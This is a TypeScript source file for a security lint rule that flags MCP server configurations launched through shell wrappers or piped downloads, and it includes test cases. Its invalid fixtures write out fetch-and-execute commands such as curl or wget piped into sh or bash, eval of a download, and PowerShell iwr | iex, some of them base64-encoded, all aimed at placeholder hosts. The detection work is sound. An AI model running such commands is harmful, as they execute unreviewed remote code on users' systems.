// A server whose command is a shell script (`sh -c "…"`, `cmd /c "a & b"`, `powershell -Command`)
// hides what it really runs from anyone reading the config and from allowlists, and is one
// variable away from injection; one that pipes a download into a shell runs whatever that URL
// serves today. Encoded PowerShell is decoded so the finding shows what it hides.
import { defineRule } from './rule.js';
import { serverRiskHits } from '../detect/commands.js';

const encode = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

export const shellWrapperLaunch = defineRule({
  meta: {
    id: 'shell-wrapper-launch',
    title: 'Server starts through a shell script or downloaded code',
    description:
      'The server command is a shell or interpreter given inline code (sh -c, bash -c, cmd /c with operators, powershell -Command or -EncodedCommand, python -c, eval), or its launch pipes a download into a shell (curl … | sh, wget -O- | bash, iwr … | iex, bash <(curl …)). The real command is hidden from review and allowlists, and downloaded code can change between runs.',
    severity: 'medium',
    category: 'privilege',
    owasp: ['ASI05', 'ASI04'],
    remediation:
      'Put the program and its arguments directly in `command` and `args`. Install tools ahead of time from a pinned source instead of piping a download into a shell; if a wrapper script is unavoidable, commit it to the repository and run it by path.',
  },
  checkServer: ({ server }) => serverRiskHits(server, ['shell-wrapper', 'download-exec', 'encoded-command', 'destructive']),
  cases: {
    valid: [
      { name: 'direct command', server: { command: 'npx', args: ['-y', '@playwright/mcp@0.0.41'] } },
      { name: 'cmd /c npx (the usual Windows launch)', server: { command: 'cmd', args: ['/c', 'npx', '-y', '@modelcontextprotocol/server-filesystem@2025.8.21', 'C:\\Users\\me\\project'] } },
      { name: 'powershell -File runs a file', server: { command: 'pwsh', args: ['-NoProfile', '-File', 'C:\\mcp\\start.ps1'] } },
      { name: 'bash running a script file', server: { command: 'bash', args: ['/opt/mcp/start.sh'] } },
      { name: 'curl as the server itself, no shell', server: { command: 'node', args: ['server.js', '--fetch-with', 'curl'] } },
      { name: 'node running a file', server: { command: 'node', args: ['--enable-source-maps', 'dist/index.js'] } },
      { name: 'argument that merely contains sh -c text', server: { command: 'my-server', args: ['--help-text', 'sh -c is not used'] } },
    ],
    invalid: [
      { name: 'sh -c with operators', server: { command: 'sh', args: ['-c', 'cd /srv/mcp && npm start'] } },
      { name: 'bash -lc', server: { command: '/bin/bash', args: ['-lc', 'source ~/.nvm/nvm.sh; npx -y server'] } },
      { name: 'single command in sh -c', server: { command: 'sh', args: ['-c', 'exec node server.js'] } },
      { name: 'curl piped to sh', server: { command: 'sh', args: ['-c', 'curl -fsSL https://get.example.com/install.sh | sh'] } },
      { name: 'wget -O- piped to bash', server: { command: 'bash', args: ['-c', 'wget -qO- https://x.example/run.sh | bash -s -- --serve'] } },
      { name: 'process substitution', server: { command: 'bash', args: ['-c', 'bash <(curl -s https://x.example/s.sh)'] } },
      { name: 'eval of a download', server: { command: 'sh', args: ['-c', 'eval "$(curl -s https://x.example/env)"'] } },
      { name: 'download then run', server: { command: 'sh', args: ['-c', 'curl -o /tmp/s.sh https://x.example/s.sh && sh /tmp/s.sh'] } },
      { name: 'cmd /c with &', server: { command: 'cmd.exe', args: ['/c', 'cd C:\\mcp & node server.js'] } },
      { name: 'powershell -Command', server: { command: 'powershell', args: ['-NoProfile', '-Command', 'iwr https://x.example/a.ps1 | iex'] } },
      { name: 'powershell -EncodedCommand', server: { command: 'powershell.exe', args: ['-enc', encode('iex (iwr https://x.example/a.ps1)')] } },
      { name: 'python -c', server: { command: 'python3', args: ['-c', 'import runpy; runpy.run_module("srv")'] } },
      { name: 'node -e', server: { command: 'node', args: ['-e', 'require("child_process").execSync("x")'] } },
      { name: 'eval as the command', server: { command: 'eval', args: ['node server.js'] } },
      { name: 'command line with a pipe in command', server: { command: 'curl -s https://x.example/i.sh | bash', args: [] } },
    ],
  },
});
